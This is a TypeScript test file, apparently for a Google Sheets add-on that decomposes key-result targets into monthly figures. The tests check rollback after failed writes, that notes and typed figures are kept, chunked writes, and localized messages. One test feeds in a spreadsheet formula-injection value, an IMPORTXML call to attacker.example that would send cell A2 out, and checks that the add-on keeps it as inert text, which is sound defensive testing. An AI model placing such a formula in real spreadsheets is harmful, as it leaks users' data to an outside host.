    const at = (key: string) => header.indexOf(TARGETS_SUMMARY_COLUMNS.find((c) => c.key === key)!.label.en);
    for (const p of progress.keyResults) {
      const row = rows.find((r) => r[0] === p.id && r[1] === 'target')!;
      if (p.current === null) expect(row[at('actualToDate')]).toBe('');
      else expect(row[at('actualToDate')]).toBeCloseTo(p.current, 9);
      expect(row[at('status')]).toBe(STATUS_LABELS[p.status].en);
    }
    // No formula reads the clock.
    const formulas = run.ss.getSheetByName('Targets')!.getDataRange().getFormulas().flat();
    expect(formulas.filter((f) => /TODAY|NOW\(/.test(f))).toEqual([]);
    // Decompose again: it is today again, and the alert says which review date it replaced.
    const again = run.run('decomposeTargets') as ActionResult;
    expect(dateToIso(run.ss.getRangeByName(TARGETS_AS_OF.name)!.getValue() as Date, 'Asia/Shanghai')).toBe(
      today,
    );
    expect(again.message).toContain(
      `The As of cell said "2026-06-15"; it is today again (${today}). Type the review date over it again`,
    );
  });

  it('leaves the tab as it was when a write fails midway: weights, the review date and formats included', () => {
    const run = loadAddon({ workbook: planWithKeyResults(1200), recalculation: 'never' });
    const kr = run.ss.getSheetByName('Key Results')!;
    const phasing = (kr.getDataRange().getValues()[0] as unknown[]).indexOf('Phasing') + 1;
    kr.getRange(1201, phasing).setValue('custom');
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    const targets = run.ss.getSheetByName('Targets')!;
    const weightsRow =
      valuesOf(run.ss, 'Targets').findIndex((r) => r[0] === 'KR1200' && r[1] === 'weights') + 1;
    expect(weightsRow).toBeGreaterThan(1000);
    targets.getRange(weightsRow, 7, 1, 3).setValues([[1, 2, 3]]);
    run.ss.getRangeByName(TARGETS_AS_OF.name)!.setValue(zonedMidnight('2026-06-30', 'Etc/UTC'));
    const before = snapshot(run.ss);
    // The second chunk of rows fails (a quota, a service error): the first chunk had been written over the tab.
    for (const [method, nth] of [
      ['Range.setValues', 2],
      ['Range.setNumberFormats', 1],
    ] as const) {
      run.emulator.failCall(method, nth, 'Service Spreadsheets timed out while accessing document.');
      const failed = run.run('decomposeTargets') as ActionResult;
      expect(failed.ok).toBe(false);
      expect(failed.message).toBe(
        'Decompose targets did not finish (Service Spreadsheets timed out while accessing document.). "Targets" is as it was before, custom weights and the As of cell included. Run Decompose targets again.',
      );
      expect(snapshot(run.ss)).toEqual(before);
    }
    // Run again, it goes through and keeps the weights.
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    const after = valuesOf(run.ss, 'Targets');
    expect(after.find((r) => r[0] === 'KR1200' && r[1] === 'weights')!.slice(6, 9)).toEqual([1, 2, 3]);
  });

  it('keeps each key result and KPI on its row, so a formula elsewhere pointing at the tab keeps showing it when one is added above or removed', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    // A Review tab of the person's own: KR2's ID and its July target, KPI2's ID and status.
    const review = run.ss.insertSheet('Review');
    review.getRange('A1:B2').setFormulas([
      ['=Targets!A3', '=Targets!K3'],
      ['=Targets!A8', '=Targets!T8'],
    ]);
    const shown = review.getRange('A1:B2').getValues();
    expect(shown.map((r) => r[0])).toEqual(['KR2', 'KPI2']);
    // A colleague adds KR0 at the top of Key Results.
    const kr = addKeyResultAbove(run);
    const added = run.run('decomposeTargets') as ActionResult;
    expect(added.ok, added.message).toBe(true);
    // The rows moved down with an inserted row, and the references with them: same key results, same figures.
    expect(review.getRange('A1:B2').getValues()).toEqual(shown);
    expect(review.getRange('A1:B2').getFormulas()).toEqual([
      ['=Targets!A4', '=Targets!K4'],
      ['=Targets!A9', '=Targets!T9'],
    ]);
    expect(valuesOf(run.ss, 'Targets').map((r) => r[0])).toEqual([
      'ID',
      'KR0',
      'KR1',
      'KR2',
      'KR3',
      'KR4',
      'KR5',
      'KPI1',
      'KPI2',
      'KPI3',
    ]);
    expect(added.message).toContain('KR2 row 3 → 4');
    expect(added.message).toContain('INDIRECT');
    compareWithShared(run, 'Etc/UTC');
    // A rebuild with nothing new moves nothing and says nothing of rows.
    const again = run.run('decomposeTargets') as ActionResult;
    expect(again.message).not.toContain('row');
    expect(review.getRange('A1:B2').getValues()).toEqual(shown);
    // KR2 deleted from the plan: its row goes, a reference to it shows #REF!, the others keep theirs.
    const kr2 =
      kr
        .getDataRange()
        .getValues()
        .findIndex((r) => r[0] === 'KR2') + 1;
    kr.deleteRow(kr2);
    const removed = run.run('decomposeTargets') as ActionResult;
    expect(removed.ok, removed.message).toBe(true);
    expect(removed.message).toContain('KR2 (row 4)');
    expect(review.getRange('A1').getValue()).toBe('#REF!');
    expect(review.getRange('A2:B2').getValues()).toEqual([shown[1]]);
    compareWithShared(run, 'Etc/UTC');
  });

  it('puts the rows it inserted for a new key result back out when a write fails, so references are as they were', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const review = run.ss.insertSheet('Review');
    review.getRange('A1:B1').setFormulas([['=Targets!A3', '=Targets!K3']]);
    addKeyResultAbove(run);
    const before = snapshot(run.ss);
    run.emulator.failCall('Range.setValues', 1, 'Service error');
    const failed = run.run('decomposeTargets') as ActionResult;
    expect(failed.ok).toBe(false);
    expect(failed.message).toContain('is as it was before');
    expect(snapshot(run.ss)).toEqual(before);
    expect(review.getRange('A1:B1').getFormulas()).toEqual([['=Targets!A3', '=Targets!K3']]);
    expect(review.getRange('A1').getValue()).toBe('KR2');
  });

  it('says which rows it left blank when deleting the rows of a key result gone fails; the next rebuild deletes them', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const kr = run.ss.getSheetByName('Key Results')!;
    deleteRowOf(kr, 'KR2');
    run.emulator.failCall('Sheet.deleteRows', 1, 'Service error');
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    expect(result.message).toContain(
      '"Targets" was left with blank rows (3), because removing them failed (Service error)',
    );
    expect(valuesOf(run.ss, 'Targets').map((r) => r[0])).toEqual([
      'ID',
      'KR1',
      '',
      'KR3',
      'KR4',
      'KR5',
      'KPI1',
      'KPI2',
      'KPI3',
    ]);
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(valuesOf(run.ss, 'Targets').map((r) => r[0])).toEqual([
      'ID',
      'KR1',
      'KR3',
      'KR4',
      'KR5',
      'KPI1',
      'KPI2',
      'KPI3',
    ]);
    compareWithShared(run, 'Etc/UTC');
  });

  it('leaves no extra header protection behind when protecting the header fails, however often', () => {
    const run = loadAddon({ recalculation: 'never' });
    run.run('insertExamplePlan');
    const before = snapshot(run.ss);
    for (const method of [
      'Protection.setWarningOnly',
      'Protection.setDescription',
      'Protection.setWarningOnly',
    ]) {
      run.emulator.failCall(method, 1, 'Service error');
      const failed = run.run('decomposeTargets') as ActionResult;
      expect(failed.ok).toBe(false);
      expect(failed.message).toContain('"Targets" is as it was before');
      expect(snapshot(run.ss)).toEqual(before);
    }
    // Removing the undescribed protection fails too (the second remove: the first is the old header's): the
    // restore removes it.
    run.emulator.failCall('Protection.setDescription', 1, 'Service error');
    run.emulator.failCall('Protection.remove', 2, 'Service error');
    expect((run.run('decomposeTargets') as ActionResult).message).toContain('is as it was before');
    expect(snapshot(run.ss)).toEqual(before);
    expect(run.ss.getProtections('RANGE' as never)).toHaveLength(
      (before as { protections: unknown[] }).protections.length,
    );
  });

  it("keeps a note with its key result and month, a month header's too, and names one the rebuilt tab has no cell for", () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const targets = run.ss.getSheetByName('Targets')!;
    targets.getRange('G1').setNote('launch month'); // March's header
    targets.getRange('H3').setNote('trade show'); // KR2, April
    const kr = addKeyResultAbove(run);
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(targets.getRange('G1').getNote()).toBe('launch month');
    expect(targets.getRange('A4').getValue()).toBe('KR2');
    expect(targets.getRange('H4').getNote()).toBe('trade show');
    expect(targets.getRange('H3').getNote()).toBe('');
    // The template's own header notes are still there.
    expect(targets.getRange('A1').getNote()).not.toBe('');
    // KR2 leaves the plan: its row goes, and the alert gives its note to put back where it belongs.
    deleteRowOf(kr, 'KR2');
    const removed = run.run('decomposeTargets') as ActionResult;
    expect(removed.ok, removed.message).toBe(true);
    expect(removed.message).toContain('H4: "trade show"');
    expect(targets.getRange('G1').getNote()).toBe('launch month');
    // A note in a cell the tab leaves blank (below the As of date) is named, and nothing is changed.
    const asOf = run.ss.getRangeByName(TARGETS_AS_OF.name)!;
    const below = targets.getRange(asOf.getRow() + 2, asOf.getColumn());
    below.setNote('ask Ann');
    const before = snapshot(run.ss);
    const refused = run.run('decomposeTargets') as ActionResult;
    expect(refused.ok).toBe(false);
    expect(refused.message).toContain(below.getA1Notation());
    expect(snapshot(run.ss)).toEqual(before);
  });

  it("keeps a figure typed over a month's formula, with its key result and month, and names it in the alert", () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const targets = run.ss.getSheetByName('Targets')!;
    // KR2, April: someone overrides the month's target by hand.
    expect(targets.getRange('A3').getValue()).toBe('KR2');
    expect(targets.getRange('H3').getFormula()).not.toBe('');
    targets.getRange('H3').setValue(123);
    // A key result added above moves KR2 down one row: the figure goes with it.
    addKeyResultAbove(run);
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    expect(targets.getRange('A4').getValue()).toBe('KR2');
    expect(targets.getRange('H4').getValue()).toBe(123);
    expect(targets.getRange('H4').getFormula()).toBe('');
    expect(result.message).toContain(
      'Figures typed over the monthly formulas of "Targets" were kept as typed: Targets!H4 (KR2, 2026-04): 123.',
    );
    // Its neighbours are the tab's formulas again.
    expect(targets.getRange('G4').getFormula()).not.toBe('');
    expect(targets.getRange('H3').getFormula()).not.toBe('');
    // Kept on every rebuild, and named each time; cleared, the formula comes back.
    const again = run.run('decomposeTargets') as ActionResult;
    expect(targets.getRange('H4').getValue()).toBe(123);
    expect(again.message).toContain('Targets!H4 (KR2, 2026-04): 123');
    targets.getRange('H4').setValue('');
    const cleared = run.run('decomposeTargets') as ActionResult;
    expect(targets.getRange('H4').getFormula()).not.toBe('');
    expect(cleared.message).not.toContain('typed over');
  });

  it('names a few of many figures typed over month formulas and counts the rest, in Chinese; one of a key result gone is given to type again', () => {
    const run = loadAddon({ locale: 'zh_TW', userLocale: 'zh_TW' });
    run.run('insertExamplePlan');
    const name = tabDef('targets').label['zh-TW'];
    const targets = run.ss.getSheetByName(name)!;
    // Seven months of KR1 typed over (E2:K2), and text over one of KR3's (E4).
    targets.getRange('E2:K2').setValues([[1, 2, 3, 4, 5, 6, 7]]);
    targets.getRange('E4').setValue('待定');
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    expect(targets.getRange('E2:K2').getValues()).toEqual([[1, 2, 3, 4, 5, 6, 7]]);
    expect(targets.getRange('E4').getValue()).toBe('待定');
    const line = result.message.split('\n').find((l) => l.includes('覆蓋了月度公式'))!;
    expect(line).toBe(
      `「${name}」中覆蓋了月度公式的手填數字已按原樣保留：${name}!E2（KR1，2026-01）：1、${name}!F2（KR1，2026-02）：2、` +
        `${name}!G2（KR1，2026-03）：3、${name}!H2（KR1，2026-04）：4、${name}!I2（KR1，2026-05）：5、另有 3 個。` +
        '這些儲存格顯示的不是計畫的數值；如需恢復，請清除該儲存格，再執行「分解目標值」。',
    );
    // KR3 leaves the plan: its row goes, and the alert gives what was typed on it.
    const kr = run.ss.getSheetByName(tabDef('keyResults').label['zh-TW'])!;
    deleteRowOf(kr, 'KR3');
    const removed = run.run('decomposeTargets') as ActionResult;
    expect(removed.ok, removed.message).toBe(true);
    expect(removed.message).toContain(`請在對應位置重新填寫：${name}!E4（KR3，2026-01）：待定。`);
  });

  it('names text typed in a helper cell the tab leaves blank on that row (Latest check-in, Meets when of an amount)', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const targets = run.ss.getSheetByName('Targets')!;
    const header = targets.getRange(1, 1, 1, targets.getLastColumn()).getValues()[0];
    const latest = header.indexOf('Latest check-in') + 1;
    const meets = header.indexOf('Meets when') + 1;
    expect(latest).toBeGreaterThan(0);
    expect(meets).toBeGreaterThan(0);
    // KR1 is an amount: neither is written on its row.
    expect(targets.getRange(2, latest, 1, 1).getFormula()).toBe('');
    const cells = [targets.getRange(2, latest), targets.getRange(2, meets)];
    for (const cell of cells) cell.setValue('ask Ann');
    const before = snapshot(run.ss);
    const refused = run.run('decomposeTargets') as ActionResult;
    expect(refused.ok).toBe(false);
    for (const cell of cells) expect(refused.message).toContain(cell.getA1Notation());
    expect(snapshot(run.ss)).toEqual(before);
    // Typed over a helper the row does have (Meets when of a KPI): the tab's, put back by the rebuild.
    for (const cell of cells) cell.setValue('');
    const kpi = valuesOf(run.ss, 'Targets').findIndex((r) => r[0] === 'KPI1') + 1;
    targets.getRange(kpi, meets).setValue('x');
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(targets.getRange(kpi, meets).getFormula()).not.toBe('');
  });

  it('names a formula typed in a helper cell the row leaves blank; one the tab wrote when the key result was of another type goes', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const targets = run.ss.getSheetByName('Targets')!;
    const header = targets.getRange(1, 1, 1, targets.getLastColumn()).getValues()[0];
    const latest = header.indexOf('Latest check-in') + 1;
    // KR1 is an amount: its Latest check-in is left blank. A formula someone typed there is theirs.
    const cell = targets.getRange(2, latest);
    cell.setFormula('=B2&" (ask Ann)"');
    const before = snapshot(run.ss);
    const refused = run.run('decomposeTargets') as ActionResult;
    expect(refused.ok).toBe(false);
    expect(refused.message).toContain(cell.getA1Notation());
    expect(snapshot(run.ss)).toEqual(before);
    cell.setFormula('');
    // A level key result made an amount: the Latest check-in formula the tab wrote for it is the tab's, cleared.
    const kr = run.ss.getSheetByName('Key Results')!;
    const krRows = kr.getDataRange().getValues();
    const type = krRows[0].indexOf('Type');
    const level = krRows.findIndex((r) => r[type] === 'level');
    expect(level).toBeGreaterThan(0);
    const id = krRows[level][0];
    const row = valuesOf(run.ss, 'Targets').findIndex((r) => r[0] === id) + 1;
    expect(targets.getRange(row, latest).getFormula()).not.toBe('');
    kr.getRange(level + 1, type + 1).setValue('cumulative');
    const rebuilt = run.run('decomposeTargets') as ActionResult;
    expect(rebuilt.ok, rebuilt.message).toBe(true);
    expect(targets.getRange(row, latest).getFormula()).toBe('');
  });

  it("removes a new Targets tab it could not finish, in the person's language", () => {
    const run = loadAddon({
      workbook: planWithKeyResults(5, 'zh-TW'),
      recalculation: 'never',
      userLocale: 'zh_TW',
    });
    const tabs = run.ss.getSheets().map((s) => s.getName());
    run.emulator.failCall('Range.setValues', 1, 'Service error');
    const failed = run.run('decomposeTargets') as ActionResult;
    expect(failed.ok).toBe(false);
    expect(failed.message).toBe(
      '「分解目標值」未完成（Service error）；已刪除新建的「目標分解」。請再執行一次「分解目標值」。',
    );
    expect(run.ss.getSheets().map((s) => s.getName())).toEqual(tabs);
    expect(run.ss.getRangeByName(TARGETS_AS_OF.name)).toBeNull();
  });

  it('writes in bounded chunks: calls grow with chunks of rows, none over the byte bound', () => {
    // About the script (its service calls), not the formulas: the large run keeps formulas as text (the
    // emulator's 'never' recalculation, docs/emulator.md), after checking on a small plan that the mode changes
    // no call. Time per plan size is measured by `npm run bench -- addon`, never here.
    const calls = (n: number, recalculation: 'onWrite' | 'never' = 'onWrite') => {
      const run = loadAddon({ workbook: planWithKeyResults(n) as never, recalculation });
      run.emulator.resetCalls();
      const result = run.run('decomposeTargets') as ActionResult;
      expect(result.ok, result.message).toBe(true);
      expect(result.details).toMatchObject({ keyResults: n });
      // The grid as written: each cell's formula, else its value.
      const tab = run.ss.getSheetByName('Targets')!.getDataRange();
      const formulas = tab.getFormulas();
      const grid = tab.getValues().map((row, r) => row.map((value, c) => formulas[r][c] || value));
      return { calls: run.emulator.calls, rows: (result.details as { rows: number }).rows, grid };
    };
    const small = calls(10);
    expect(calls(10, 'never').calls.byMethod).toEqual(small.calls.byMethod);
    const large = calls(1200, 'never');
    expect(small.calls.byMethod['Range.setValues']).toBe(1);
    // 1,201 rows in chunks of at most WRITE_ROWS_PER_CALL rows and WRITE_BYTES_PER_CALL bytes: here the bytes
    // decide (a row of formulas is over 3 kB): chunks of about 400 rows rather than 500.
    const chunks = chunkRows(large.grid).length;
    expect(chunks).toBeGreaterThanOrEqual(Math.ceil(large.rows / WRITE_ROWS_PER_CALL));
    expect(chunks).toBeLessThan(large.rows / 300);
    expect(large.calls.byMethod['Range.setValues']).toBe(chunks);
    expect(large.calls.byMethod['Range.setNumberFormats']).toBe(
      Math.ceil((large.rows - 1) / WRITE_ROWS_PER_CALL),
    );
    expect(large.calls.maxWriteBytes).toBeLessThanOrEqual(WRITE_BYTES_PER_CALL);
    // Every other call is made as often for 1,200 key results as for 10.
    const others = (byMethod: Record<string, number>) =>
      Object.fromEntries(
        Object.entries(byMethod).filter(
          ([m]) => !/setValues|setNumberFormats|setBackgrounds|Sheet.getRange|insert/.test(m),
        ),
      );
    expect(others(large.calls.byMethod)).toEqual(others(small.calls.byMethod));
  });

  it('cuts rows into chunks by rows and by bytes', () => {
    const rows = Array.from({ length: 7 }, (_, i) => ['x'.repeat(i === 3 ? 50 : 5)]);
    // 3 rows at most, 40 bytes at most: three rows of 5 x's are [["xxxxx"],["xxxxx"],["xxxxx"]] as the call's
    // arguments, 33 bytes; row 3 (54 bytes as JSON) goes alone.
    expect(JSON.stringify([rows.slice(0, 3)]).length).toBe(33);
    expect(chunkRows(rows, 3, 40)).toEqual([
      { start: 0, count: 3 },
      { start: 3, count: 1 },
      { start: 4, count: 3 },
    ]);
    // The brackets and commas count: at 32 bytes the same rows go two and one.
    expect(chunkRows(rows.slice(0, 3), 3, 32)).toEqual([
      { start: 0, count: 2 },
      { start: 2, count: 1 },
    ]);
    // 'é' is two bytes in UTF-8: [["éééééééééé"]] is 26 bytes, so with 'a' it is over 28.
    expect(chunkRows([['é'.repeat(10)], ['a']], 10, 28)).toEqual([
      { start: 0, count: 1 },
      { start: 1, count: 1 },
    ]);
  });
});

describe('Decompose targets keeps what a person typed on the tab', () => {
  const letter = (tab: { getRange(r: number, c: number): { getA1Notation(): string } }, column: number) =>
    tab.getRange(1, column).getA1Notation().replace('1', '');

  it('never deletes a column inserted inside the table (a Comment after Status): it names the cells typed there', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    const tab = run.ss.getSheetByName('Targets')!;
    const status = (valuesOf(run.ss, 'Targets')[0] as unknown[]).indexOf('Status') + 1;
    tab.insertColumnsAfter(status, 1);
    const comment = letter(tab, status + 1);
    tab
      .getRange(1, status + 1, 4, 1)
      .setValues([['Comment'], ['Board asked to stretch KR1'], [''], ['agreed']]);
    const before = snapshot(run.ss);
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(false);
    expect(result.details).toEqual({ handTyped: [`${comment}1:${comment}2`, `${comment}4`] });
    expect(result.message).toBe(
      `Decompose targets rebuilds "Targets" from the plan, which would clear what was typed there in columns, rows or cells it does not generate (a value or a formula): ${comment}1:${comment}2, ${comment}4. Move it to another tab, then run Decompose targets again. Nothing was changed.`,
    );
    expect(snapshot(run.ss)).toEqual(before);
    // Left empty, an inserted column holds nothing to lose: the rebuild goes ahead and the tab is as generated.
    tab.getRange(1, status + 1, 4, 1).clearContent();
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect((valuesOf(run.ss, 'Targets')[0] as unknown[])[status]).toBe('Window start');
  });

  it('writes an owner typed 销售 (Departments tab: 銷售) as 銷售, and rebuilds over it without taking it for typed', () => {
    const run = loadAddon({ locale: 'zh_TW', timeZone: 'Asia/Taipei' });
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
    const krTab = run.ss.getSheetByName(tabDef('keyResults').label['zh-TW'])!;
    const krs = valuesOf(run.ss, tabDef('keyResults').label['zh-TW']);
    const ownerColumn = (krs[0] as unknown[]).indexOf('負責部門') + 1;
    krTab.getRange(krs.findIndex((r) => r[0] === 'KR1') + 1, ownerColumn).setValue('销售');
    const name = tabDef('targets').label['zh-TW'];
    const ownerOf = (id: string) => {
      const rows = valuesOf(run.ss, name);
      return rows.find((r) => r[0] === id)![(rows[0] as unknown[]).indexOf('負責部門')];
    };
    const first = run.run('decomposeTargets') as ActionResult;
    expect(first.ok, first.message).toBe(true);
    expect(ownerOf('KR1')).toBe('銷售');
    // Rebuilt over that tab (銷售 where the plan says 销售): nothing is taken for typed, and nothing changes.
    const once = snapshot(run.ss);
    const second = run.run('decomposeTargets') as ActionResult;
    expect(second.ok, second.message).toBe(true);
    expect(second.details?.handTyped).toBeUndefined();
    expect(snapshot(run.ss)).toEqual(once);
  });

  it('never deletes a 備註 column inserted after a generated column of a zh-TW tab', () => {
    const run = loadAddon({ locale: 'zh_TW', timeZone: 'Asia/Taipei' });
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
    const name = tabDef('targets').label['zh-TW'];
    const tab = run.ss.getSheetByName(name)!;
    tab.insertColumnsAfter(3, 1);
    tab.getRange(1, 4, 3, 1).setValues([['備註'], ['董事會要求加碼'], ['待確認']]);
    const before = snapshot(run.ss);
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(false);
    expect(result.details).toEqual({ handTyped: ['D1:D3'] });
    expect(result.message).toContain('這會清除不是由它產生的欄、列或儲存格中輸入的內容（值或公式）：D1:D3。');
    expect(snapshot(run.ss)).toEqual(before);
  });

  it('counts a formula as typed, also one that shows nothing: beside the table, in a row of its own, under As of, on a weights row', () => {
    const { run, targets: tab, weightsRow } = exampleWithCustomKr2();
    const header = valuesOf(run.ss, 'Targets')[0] as unknown[];
    const asOf = header.indexOf(TARGETS_AS_OF.label.en) + 1;
    const status = header.indexOf('Status') + 1;
    const after = tab.getLastColumn() + 1;
    tab.insertColumnsAfter(after - 1, 1);
    // A row inserted between two key results, holding only a formula that shows nothing.
    tab.insertRowsAfter(weightsRow, 1);
    tab.getRange(weightsRow + 1, 3).setFormula('=IF(A2="zzz","x","")');
    tab.getRange(2, after).setFormula('=IF(A2="zzz","x","")');
    tab.getRange(weightsRow + 3, asOf).setFormula('=IF(A5="zzz","x","")');
    tab.getRange(weightsRow, status).setFormula('=IF(A2="zzz","x","")');
    expect(tab.getRange(2, after).getValue()).toBe('');
    const before = snapshot(run.ss);
    run.emulator.resetCalls();
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(false);
    // One read per block where a formula would be the person's (the column, the row, the weights row, As of).
    expect(run.emulator.calls.byMethod['Range.getFormulas']).toBe(4);
    expect(result.details).toEqual({
      handTyped: [
        `C${weightsRow + 1}`,
        `${letter(tab, status)}${weightsRow}`,
        `${letter(tab, asOf)}${weightsRow + 3}`,
        `${letter(tab, after)}2`,
      ],
    });
    expect(snapshot(run.ss)).toEqual(before);
  });

  it("keeps a weight's formula (a product, a link to a seasonality table, the month before) where the rebuild puts the weight", () => {
    const { run, targets: tab, weightsRow } = exampleWithCustomKr2();
    const seasonality = run.ss.insertSheet('Seasonality');
    seasonality.getRange(1, 1, 2, 2).setValues([
      ['Month', 'Weight'],
      ['Apr', 3],
    ]);
    // March to June (columns G..J): a product, a link, "as April", a number.
    tab.getRange(weightsRow, 7, 1, 4).setValues([['=2*1', '=Seasonality!B2', `=H${weightsRow}`, 1]]);
    // A key result added above KR2 moves its weights row down one.
    const kr = run.ss.getSheetByName('Key Results')!;
    kr.insertRowsAfter(2, 1);
    const kr1 = kr.getRange(2, 1, 1, kr.getLastColumn()).getValues()[0];
    kr.getRange(3, 1, 1, kr1.length).setValues([['KR1B', ...kr1.slice(1)]]);
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    const row = valuesOf(run.ss, 'Targets').findIndex((r) => r[0] === 'KR2' && r[1] === 'weights') + 1;
    expect(row).toBe(weightsRow + 1);
    const weights = tab.getRange(row, 7, 1, 4);
    expect(weights.getFormulas()[0]).toEqual(['=2*1', '=Seasonality!B2', `=H${row}`, '']);
    expect(weights.getValues()[0]).toEqual([2, 3, 3, 1]);
    // And a rebuild of that is the same tab.
    const once = snapshot(run.ss);
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(snapshot(run.ss)).toEqual(once);
    // The period now starts in April: the months move three columns left, and "as April" with them; March's
    // formula has no cell now, and the alert gives it as typed.
    run.ss.getSheetByName('Strategy')!.getRange(9, 2).setValue(zonedMidnight('2026-04-01', 'Etc/UTC'));
    const later = run.run('decomposeTargets') as ActionResult;
    expect(later.message).toContain('KR2, months outside the period: 2026-03: =2*1.');
    expect(tab.getRange(row, 5, 1, 3).getFormulas()[0]).toEqual(['=Seasonality!B2', `=E${row}`, '']);
    expect(tab.getRange(row, 5, 1, 3).getValues()[0]).toEqual([3, 3, 1]);
  });

  it('keeps a weight typed as text ("=2*3" typed after an apostrophe) as that text, never a formula that runs; a formula typed stays one', () => {
    // The QA's steps: KR2's Phasing custom, Decompose, then in its weights row text that looks like a formula.
    const run = loadAddon({ locale: 'en_US', timeZone: 'America/New_York' });
    run.run('insertExamplePlan');
    run.ss.getSheetByName('Key Results')!.getRange('L3').setValue('custom');
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    const tab = run.ss.getSheetByName('Targets')!;
    expect(tab.getRange('A4:B4').getValues()[0]).toEqual(['KR2', 'weights']);
    tab.getRange(4, 5, 1, 12).setValues([[0, 0, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1]]);
    // Typed in Sheets as '=2*3: the cell holds the text =2*3 (docs/emulator.md).
    const importXml = '=IMPORTXML("http://attacker.example/?q="&A2,"//a")';
    tab.getRange('G4').setValue("'=2*3");
    tab.getRange('H4').setValue(`'${importXml}`);
    tab.getRange('I4').setFormula('=G4*2');
    const weightIssues = () =>
      (run.project.callFromClient('getPlanCheck', 'en') as PlanCheck).groups
        .flatMap((g) => g.issues)
        .filter((i) => i.code === 'invalid-weight')
        .map((i) => [i.a1, i.message]);
    const warned = [
      [
        'G4',
        'The weight of KR2 for 2026-03 is "=2*3": a weight is a number of 0 or more, so it is not used.',
      ],
      [
        'H4',
        `The weight of KR2 for 2026-04 is "${importXml}": a weight is a number of 0 or more, so it is not used.`,
      ],
    ];
    expect(weightIssues().slice(0, 2)).toEqual(warned);
    const typed = () => ({
      values: tab.getRange('E4:P4').getValues()[0],
      formulas: tab.getRange('E4:P4').getFormulas()[0],
    });
    const before = typed();
    expect(before.values.slice(2, 4)).toEqual(['=2*3', importXml]);
    expect(before.formulas.slice(2, 5)).toEqual(['', '', '=G4*2']);

    const rebuilt = run.run('decomposeTargets') as ActionResult;
    expect(rebuilt.ok, rebuilt.message).toBe(true);
    // The same text, no formula; the formula typed is a formula still; the numbers are numbers.
    for (const a1 of ['G4', 'H4']) expect(tab.getRange(a1).getFormula(), a1).toBe('');
    expect(tab.getRange('G4').getValue()).toBe('=2*3');
    expect(tab.getRange('H4').getValue()).toBe(importXml);
    expect(tab.getRange('I4').getFormula()).toBe('=G4*2');
    expect(typed()).toEqual(before);
    expect(before.values.filter((v) => typeof v === 'number')).toEqual([0, 0, 1, 1, 1, 1, 1, 1, 1]);
    expect(weightIssues().slice(0, 2)).toEqual(warned);
    // A rebuild of that is the same tab.
    const once = snapshot(run.ss);
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(snapshot(run.ss)).toEqual(once);
    // A rebuild that fails midway puts the tab back as it was: the text as text, not as a formula.
    run.emulator.failCall('Range.setValues', 1, 'Service Spreadsheets timed out while accessing document.');
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(false);
    expect(snapshot(run.ss)).toEqual(once);
    expect(tab.getRange('G4').getFormula()).toBe('');
  });

  it("says on the sidebar's Rebuild button, in each language, that As of becomes today, as the menu's Decompose does", () => {
    for (const [locale, lang, label] of [
      ['en_US', 'en', 'Rebuild Targets, judged as of today'],
      ['zh_CN', 'zh-CN', '重建“目标分解”，按今天评估'],
      ['zh_TW', 'zh-TW', '重建「目標分解」，按今天評估'],
    ] as [string, Lang, string][]) {
      const run = loadAddon({ locale });
      expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
      const tab = run.ss.getSheetByName(tabDef('targets').label[lang])!;
      // A review date typed over As of, and a number typed over a month's formula (the tab is then out of date).
      const asOf = run.ss.getRangeByName(TARGETS_AS_OF.name)!;
      asOf.setValue(zonedMidnight('2026-06-15', 'Etc/UTC'));
      tab.getRange(2, 7).setValue(123);
      const check = run.project.callFromClient('getPlanCheck', lang) as PlanCheck;
      const stale = check.groups.flatMap((g) => g.issues).find((i) => i.code === 'targets-mismatch')!;
      expect(stale.quickFix).toEqual({ kind: 'rebuild-targets', label });
      const { code, sheet, a1 } = stale;
      const fixed = run.project.callFromClient(
        'applyQuickFix',
        { code, sheet, a1, label },
        lang,
      ) as QuickFixResult;
      expect(fixed.ok, fixed.message).toBe(true);
      const today = dateToIso(new Date(), 'Etc/UTC');
      expect(dateToIso(asOf.getValue() as Date, 'Etc/UTC')).toBe(today);
      if (lang === 'en')
        expect(fixed.message).toContain(`The As of cell said "2026-06-15"; it is today again (${today}).`);
    }
  });

  it("reads the whole tab's formulas once, for the check and the restore alike, when there are more than 20 blocks to read", () => {
    const workbook = planWithKeyResults(40);
    const krs = workbook['Key Results'];
    const phasing = (krs[0] as string[]).indexOf('Phasing');
    for (const row of krs.slice(1)) row[phasing] = 'custom';
    const run = loadAddon({ workbook });
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    const tab = run.ss.getSheetByName('Targets')!;
    const rows = valuesOf(run.ss, 'Targets');
    const weightRows = rows.flatMap((r, i) => (r[1] === 'weights' ? [i + 1] : []));
    expect(weightRows.length).toBeGreaterThan(20);
    // A formula weight on the last weights row is kept, read from the one read of the tab's formulas.
